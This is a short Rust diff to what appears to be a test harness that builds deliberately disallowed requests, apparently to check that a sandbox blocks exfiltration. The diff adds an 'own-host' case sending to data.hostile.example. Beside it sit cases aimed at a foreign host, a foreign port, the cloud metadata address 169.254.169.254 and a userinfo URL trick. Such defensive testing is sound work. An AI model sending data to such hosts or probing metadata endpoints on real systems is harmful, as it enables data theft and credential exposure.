@@ -14,6 +14,7 @@ pub(crate) fn request(switch: &str, task: &Submission, at: &str) -> Option<Step>
     let post = |body: Body, placements: Vec<Placement>| Some(send(Request { body, placements, ..honest(task) }));
     match switch {
         "foreign-host" => url("https://other.example/take"),
+        "own-host" => url("https://data.hostile.example/take"),
         "foreign-port" => url(&format!("http://{at}/take")),
         "foreign-private" => url("https://169.254.169.254/latest/meta-data"),
         "url-userinfo" => url(&format!("http://127.0.0.1@{at}/take")),
